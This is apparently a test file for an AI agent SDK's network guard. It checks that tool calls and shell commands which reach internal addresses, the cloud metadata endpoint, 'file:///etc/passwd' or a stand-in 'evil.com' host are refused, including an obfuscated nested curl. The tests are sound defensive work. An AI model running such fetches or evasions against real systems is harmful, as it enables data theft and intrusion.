import { Type } from "typebox";
import { expect, test } from "vitest";
import { definePlugin, defineTool, Net, refuse, Tools } from "@gantry/sdk";
import { startTestHost } from "@gantry/sdk/testing";
import commands from "../guard-commands/index.ts";
import net from "../net-undici/index.ts";
import guard from "./index.ts";

const ran: string[] = [];
const input = Type.Object({ text: Type.String() });
const run = async ({ args }: { args: { text: string } }) => {
  ran.push(args.text);
  return "done";
};
const never = () => Promise.reject(new Error("not here"));
const tools = definePlugin({
  name: "tool-some",
  provides: [Tools],
  setup(host) {
    host.provide(
      Tools,
      defineTool({
        name: "fetch",
        description: "An address.",
        input,
        run,
        effects: ({ text }) => ({ urls: text.split(" ") }),
      }),
    );
    host.provide(
      Tools,
      defineTool({
        name: "sh",
        description: "A command.",
        input,
        run,
        effects: ({ text }) => ({ commands: [text] }),
      }),
    );
  },
});
/** Lets example.com pass and notes what it was asked. */
const asked: string[] = [];
const check = async (url: string) => {
  asked.push(url);
  return url.includes("//example.com/") ? undefined : refuse({ code: "NET_BLOCKED", message: "no" });
};
const fakeNet = definePlugin({
  name: "net-fake",
  provides: [Net],
  setup(host) {
    host.provide(Net, { check, fetch: never, connect: never });
  },
});

test("SEC-07: an address that a tool will request is checked before it runs; one bad among good refuses the call", async () => {
  await using host = await startTestHost({
    plugins: [guard, net, tools],
    config: { security: { allowed_domains: ["8.8.8.8"] } },
  });
  const no = [
    "http://127.0.0.1/",
    "http://169.254.169.254/",
    "http://example.com/",
    "file:///etc/passwd",
    "http://8.8.8.8/ http://10.0.0.1/",
  ];
  for (const text of no)
    expect(await host.call("fetch", { text })).toMatchObject({
      decision: "refused",
      code: expect.stringMatching(/^NET_/),
    });
  expect(ran).toEqual([]);
  expect(await host.call("fetch", { text: "http://8.8.8.8/" })).toMatchObject({ decision: "allowed" });
});

test("SEC-07: addresses in commands that fetch them are checked too, nested ones as well", async () => {
  await using host = await startTestHost({
    plugins: [guard, fakeNet, commands, tools],
    config: { security: { blocked_commands: [] } },
  });
  const answer = async (text: string) =>
    (await host.explain("sh", { text })).find(({ by }) => by === "guard-network")?.outcome?.code ?? "allow";
  const no = [
    "curl http://evil.com/",
    "wget -q 'https://evil.com/x'",
    "sh -c 'curl ht\"\"tp://evil.com/'",
    "git clone https://evil.com/a",
    "curl --url=http://evil.com/",
    "curl http://evil.com/$x",
    "curl http://example.com/ ftp://evil.com/",
  ];
  expect(await Promise.all(no.map(answer))).toEqual(no.map(() => "NET_BLOCKED"));
  const ok = [
    "curl http://example.com/",
    "echo http://evil.com/",
    "git commit -m http://evil.com/",
    "grep http://evil.com/ f",
    "curl $x",
    "ls",
  ];
  expect(await Promise.all(ok.map(answer))).toEqual(ok.map(() => "allow"));
  expect(asked).toContain("http://evil.com/");
});

test("SEC-07: a check that throws refuses the call", async () => {
  const broken = definePlugin({
    name: "net-broken",
    provides: [Net],
    setup(host) {
      host.provide(Net, { check: never, fetch: never, connect: never });
    },
  });
  await using host = await startTestHost({ plugins: [guard, broken, tools] });
  expect(await host.call("fetch", { text: "http://example.com/" })).toMatchObject({
    decision: "refused",
    code: "HOOK_FAILED",
  });
});
